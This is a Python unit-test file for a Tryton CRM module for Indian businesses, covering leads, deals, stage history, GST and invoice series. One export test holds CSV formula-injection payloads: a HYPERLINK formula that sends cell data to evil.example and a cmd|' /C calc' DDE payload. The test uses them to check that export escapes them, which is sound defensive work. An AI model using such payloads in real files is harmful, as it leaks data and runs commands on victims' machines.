import datetime as dt
import unittest
from decimal import Decimal

from trytond.model.exceptions import ValidationError
from trytond.modules.company.tests import (
    CompanyTestMixin, create_company, set_company)
from trytond.pool import Pool
from trytond.tests.test_tryton import (
    ModuleTestCase, activate_module, with_transaction)


class KrayaCrmTestCase(CompanyTestMixin, ModuleTestCase):
    "Views, access, depends and fields of the module, and its behaviour."
    module = 'kraya_crm'

    def stage(self, name):
        Stage = Pool().get('crm.stage')
        stage, = Stage.search([('name', '=', name)])
        return stage

    @with_transaction()
    def test_lead_phone_and_email_are_normalised_on_save(self):
        Lead = Pool().get('crm.lead')
        company = create_company()
        with set_company(company):
            lead, = Lead.create([{
                        'name': "Asha Kulkarni", 'phone': '098765 43210',
                        'email': ' Asha@Example.IN '}])
            self.assertEqual(lead.phone, '+919876543210')
            self.assertEqual(lead.email, 'asha@example.in')
            Lead.write([lead], {'whatsapp': '91-99887-76655'})
            self.assertEqual(lead.whatsapp, '+919988776655')

    @with_transaction()
    def test_lead_with_invalid_phone_is_refused_with_the_number(self):
        Lead = Pool().get('crm.lead')
        company = create_company()
        with set_company(company):
            with self.assertRaisesRegex(ValidationError, '12345'):
                Lead.create([{'name': "Bad Number", 'phone': '12345'}])

    @with_transaction()
    def test_lead_found_by_phone_typed_any_way(self):
        Lead = Pool().get('crm.lead')
        company = create_company()
        with set_company(company):
            lead, = Lead.create([{'name': "Ravi", 'phone': '9876543210'}])
            self.assertEqual(
                Lead.search([('rec_name', 'ilike', '098765 43210')]), [lead])

    @with_transaction()
    def test_convert_creates_party_and_deal_linked_both_ways(self):
        pool = Pool()
        Lead = pool.get('crm.lead')
        company = create_company()
        with set_company(company):
            lead, = Lead.create([{
                        'name': "Asha Kulkarni", 'company_name': "Kulkarni Foods",
                        'phone': '9876543210', 'email': 'asha@example.in',
                        'city': "Pune"}])
            deal, = Lead.convert_to_deals([lead])

            self.assertEqual(lead.status, 'converted')
            self.assertEqual(lead.party, deal.party)
            self.assertEqual(deal.lead, lead)
            self.assertEqual(list(lead.deals), [deal])
            self.assertEqual(deal.stage, self.stage("New"))
            self.assertEqual(deal.currency, company.currency)
            party = deal.party
            self.assertEqual(party.name, "Kulkarni Foods")
            self.assertEqual(
                {(m.type, m.value) for m in party.contact_mechanisms},
                {('mobile', '+91 98765 43210'), ('email', 'asha@example.in'),
                    ('other', "Asha Kulkarni")})
            self.assertEqual(party.addresses[0].city, "Pune")
            self.assertEqual(list(party.crm_leads), [lead])

    @with_transaction()
    def test_convert_twice_makes_one_deal(self):
        Lead = Pool().get('crm.lead')
        company = create_company()
        with set_company(company):
            lead, = Lead.create([{'name': "Once", 'phone': '9876543210'}])
            Lead.convert_to_deals([lead])
            self.assertEqual(Lead.convert_to_deals([lead]), [])
            self.assertEqual(len(lead.deals), 1)

    @with_transaction()
    def test_stage_change_is_recorded_with_time_in_previous_stage(self):
        pool = Pool()
        Deal = pool.get('crm.deal')
        History = pool.get('crm.deal.stage_history')
        company = create_company()
        with set_company(company):
            deal, = Deal.create([{
                        'title': "2 BHK Powai", 'value': Decimal('14500000')}])
            # As if the deal sat in New for three hours.
            Deal.write([deal], {'stage_entered_at':
                    deal.stage_entered_at - dt.timedelta(hours=3)})
            Deal.write([deal], {'stage': self.stage("Qualified").id})

            first, move = History.search(
                [('deal', '=', deal.id)], order=[('id', 'ASC')])
            self.assertIsNone(first.from_stage)
            self.assertEqual(first.to_stage, self.stage("New"))
            self.assertEqual(move.from_stage, self.stage("New"))
            self.assertEqual(move.to_stage, self.stage("Qualified"))
            self.assertGreaterEqual(move.time_in_previous, dt.timedelta(hours=3))
            self.assertLess(move.time_in_previous, dt.timedelta(hours=3, minutes=5))

    @with_transaction()
    def test_write_without_stage_change_records_nothing(self):
        pool = Pool()
        Deal = pool.get('crm.deal')
        History = pool.get('crm.deal.stage_history')
        company = create_company()
        with set_company(company):
            deal, = Deal.create([{'title': "Shop", 'value': Decimal(1)}])
            Deal.write([deal], {'stage': deal.stage.id, 'title': "Shop, Thane"})
            self.assertEqual(History.search_count([('deal', '=', deal.id)]), 1)

    @with_transaction()
    def test_probability_comes_from_stage(self):
        Deal = Pool().get('crm.deal')
        company = create_company()
        with set_company(company):
            deal, = Deal.create([{
                        'title': "Flat", 'value': Decimal(1),
                        'stage': self.stage("Negotiation").id}])
            self.assertEqual(deal.probability, 80)

    @with_transaction()
    def test_lost_stage_needs_a_reason(self):
        Deal = Pool().get('crm.deal')
        company = create_company()
        with set_company(company):
            deal, = Deal.create([{'title': "Flat", 'value': Decimal(1)}])
            with self.assertRaisesRegex(ValidationError, 'Lost Reason'):
                Deal.write([deal], {'stage': self.stage("Lost").id})
            Deal.write([deal], {
                    'stage': self.stage("Lost").id,
                    'lost_reason': "Bought elsewhere"})
            self.assertEqual(deal.stage_kind, 'lost')

    @with_transaction()
    def test_deal_value_in_indian_rupees(self):
        Deal = Pool().get('crm.deal')
        company = create_company()
        with set_company(company):
            deal, = Deal.create([{
                        'title': "Flat", 'value': Decimal('14500000')}])
            self.assertEqual(deal.value_text, '₹1,45,00,000')

    @with_transaction()
    def test_deal_lines_sum_into_value(self):
        pool = Pool()
        Deal = pool.get('crm.deal')
        Line = pool.get('crm.deal.line')
        company = create_company()
        with set_company(company):
            deal = Deal(title="Two flats", currency=company.currency)
            deal.lines = [
                Line(quantity=2, unit_price=Decimal('6500000')),
                Line(quantity=1, unit_price=Decimal('25000'))]
            deal.on_change_lines()
            self.assertEqual(deal.value, Decimal('13025000'))

    @with_transaction()
    def test_deal_lines_saved_without_the_desk_sum_into_value(self):
        "The API and imports save lines as they come: the server sums them."
        pool = Pool()
        Deal = pool.get('crm.deal')
        Line = pool.get('crm.deal.line')
        company = create_company()
        with set_company(company):
            deal, = Deal.create([{'title': "Two flats", 'lines': [
                            ('create', [{'quantity': 2,
                                        'unit_price': Decimal('6500000')}])],
                        }])
            self.assertEqual(deal.value, Decimal('13000000'))
            line, = Line.create([{'deal': deal.id, 'quantity': 1,
                        'unit_price': Decimal('25000')}])
            self.assertEqual(Deal(deal.id).value, Decimal('13025000'))
            Line.write([line], {'quantity': 3})
            self.assertEqual(Deal(deal.id).value, Decimal('13075000'))
            Line.delete([line])
            self.assertEqual(Deal(deal.id).value, Decimal('13000000'))
            # Without lines, the value is the one typed.
            Deal.write([deal], {'lines': [('delete', [
                                l.id for l in Deal(deal.id).lines])],
                    'value': Decimal('500000')})
            self.assertEqual(Deal(deal.id).value, Decimal('500000'))

    @with_transaction()
    def test_team_membership_is_in_the_rule_context(self):
        pool = Pool()
        Team = pool.get('crm.team')
        User = pool.get('res.user')
        Rule = pool.get('ir.rule')
        from trytond.transaction import Transaction
        user, = User.create([{'login': 'asha', 'name': "Asha"}])
        with Transaction().set_user(user.id):
            self.assertEqual(Rule._get_context('crm.lead')['crm_teams'], [])
        team, = Team.create([{'name': "Pune", 'members': [('add', [user.id])]}])
        with Transaction().set_user(user.id):
            context = Rule._get_context('crm.lead')
            self.assertEqual(context['crm_teams'], [team.id])
            self.assertEqual(context['user_id'], user.id)

    @with_transaction()
    def test_list_views_use_only_columns_the_desk_can_draw(self):
        "sao has no datetime column: a list needs widget date and time."
        from lxml import etree
        pool = Pool()
        View = pool.get('ir.ui.view')
        for view in View.search([
                    ('module', '=', self.module), ('type', '=', 'tree')]):
            Model = pool.get(view.model)
            result = Model.fields_view_get(view.id, 'tree')
            for field in etree.fromstring(result['arch']).iter('field'):
                name = field.get('name')
                widget = field.get('widget') or result['fields'][name]['type']
                with self.subTest(view=view.name, field=name):
                    self.assertIn(widget, SAO_LIST_WIDGETS)

    @with_transaction()
    def test_desk_export_of_leads_and_deals_is_formula_safe(self):
        pool = Pool()
        Lead = pool.get('crm.lead')
        Deal = pool.get('crm.deal')
        hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        company = create_company()
        with set_company(company):
            lead, = Lead.create([{'name': hostile, 'phone': '09876543210'}])
            deal, = Deal.create([{'title': "-2+3+cmd|' /C calc'!A0",
                        'lead': lead.id, 'value': Decimal(500000)}])
            self.assertEqual(
                Lead.export_data([lead], ['name', 'phone', 'rec_name'],
                    header=True),
                [['Contact Name', 'Phone', 'Record Name'],
                    ["'" + hostile, "'+919876543210", "'" + hostile]])
            (name, value, lead_name), = Deal.export_data(
                [deal], ['title', 'value', 'lead'])
            self.assertEqual((name, lead_name),
                ("'-2+3+cmd|' /C calc'!A0", "'" + hostile))
            # Numbers stay numbers for the spreadsheet to sum.
            self.assertEqual(value, deal.value)


# Sao.View.TreeXMLViewParser.WIDGETS in sao 8.0
SAO_LIST_WIDGETS = {
    'binary', 'boolean', 'callto', 'char', 'date', 'dict', 'email', 'float',
    'image', 'integer', 'many2many', 'many2one', 'numeric', 'one2many',
    'one2one', 'progressbar', 'reference', 'selection', 'multiselection',
    'sip', 'text', 'time', 'timedelta', 'url'}

del ModuleTestCase


class GstTestCase(unittest.TestCase):
    "The GST rates' dates and the fiscal year's invoice series."

    @classmethod
    def setUpClass(cls):
        activate_module('kraya_crm')

    @with_transaction()
    def test_retired_12_percent_computes_only_before_22_september_2025(self):
        pool = Pool()
        Company = pool.get('company.company')
        Tax = pool.get('account.tax')
        company = create_company()
        with set_company(company):
            Company.set_up_indian_accounting([company])
            tax, = Tax.search([
                    ('name', '=', "GST 12%"), ('group.kind', '=', 'sale')])
            before = Tax.compute([tax], Decimal(1000), 1, dt.date(2025, 9, 21))
            after = Tax.compute([tax], Decimal(1000), 1, dt.date(2025, 9, 22))
            self.assertEqual(
                sorted((l['tax'].name, l['amount']) for l in before),
                [("CGST 6%", Decimal(60)), ("SGST 6%", Decimal(60))])
            self.assertEqual(after, [])

    @with_transaction()
    def test_each_fiscal_year_has_its_own_invoice_series(self):
        pool = Pool()
        FiscalYear = pool.get('account.fiscalyear')
        Company = pool.get('company.company')
        company = create_company()
        with set_company(company):
            Company.set_up_indian_accounting([company])
            year = FiscalYear.indian_year(company, dt.date(2025, 9, 1))
            self.assertEqual((year.name, year.start_date, year.end_date),
                ("2025-26", dt.date(2025, 4, 1), dt.date(2026, 3, 31)))
            series, = year.invoice_sequences
            self.assertEqual((series.out_invoice_sequence.prefix,
                    series.out_credit_note_sequence.prefix),
                ('INV/25-26/', 'CN/25-26/'))
            self.assertEqual(
                FiscalYear.indian_year(company, dt.date(2026, 3, 31)), year)
            self.assertEqual(len(year.periods), 12)
